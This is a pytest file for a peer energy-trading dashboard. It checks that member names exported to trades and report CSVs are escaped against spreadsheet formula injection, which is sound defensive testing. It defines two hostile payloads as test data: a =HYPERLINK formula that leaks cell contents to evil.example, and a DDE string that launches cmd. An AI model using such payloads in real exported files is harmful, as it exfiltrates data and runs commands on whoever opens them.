"""CSV files households open in a spreadsheet never carry a formula a member wrote into its name
(found in a QA pass: a member named =HYPERLINK(...) reached every trading partner's trades.csv)."""

from __future__ import annotations

import csv
import io

import pytest

from dashboard.app import create_app
from market.spreadsheet import text_cell
from tests.dashboard.conftest import PASSWORDS, TEST_PASSWORD_METHOD, login
from tests.dashboard.ledger_fixture import build_unsettled

SELLER = '=HYPERLINK("http://evil.example/?"&A1,"x")'
BUYER = "+cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (SELLER, "'" + SELLER),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("\tx", "'\tx"),
        ("-8330", "-8330"),  # a number stays a number
        ("+12.5", "+12.5"),
        ("Anna Huber", "Anna Huber"),
        (-8330, -8330),
        (None, None),
    ],
)
def test_text_cell(value, written):
    assert text_cell(value) == written


def test_names_in_the_trades_csv_are_text(tmp_path):
    built = build_unsettled(tmp_path / "ledger", names=(SELLER, BUYER))
    app = create_app(
        built.data_dir, instance_dir=tmp_path / "instance",
        config={"TESTING": True, "PASSWORD_METHOD": TEST_PASSWORD_METHOD},
    )  # fmt: skip
    services = app.extensions["peerwatt"]
    services.indexer.sync()
    services.accounts.add_user("flat", PASSWORDS["flat"], role="household", meters=[built.buyer])
    client = app.test_client()
    assert login(client, "flat").status_code == 302
    (row,) = csv.DictReader(io.StringIO(client.get("/api/v1/trades.csv").get_data(as_text=True)))
    assert row["seller"] == "'" + SELLER
    assert not any(v.startswith(("=", "+", "@")) for v in row.values()), row


def test_names_in_the_report_csv_are_text(tmp_path):
    from tests.support.cli import peerwatt

    built = build_unsettled(tmp_path / "ledger", names=(SELLER, BUYER), name_meters=True)
    r = peerwatt("report", "--data", str(built.data_dir), "--out", str(tmp_path / "r.csv"))
    assert r.returncode == 0, r.stderr
    rows = list(csv.DictReader(io.StringIO((tmp_path / "r.csv").read_text())))
    assert sorted(row["name"] for row in rows) == sorted(["'" + SELLER, "'" + BUYER]), rows
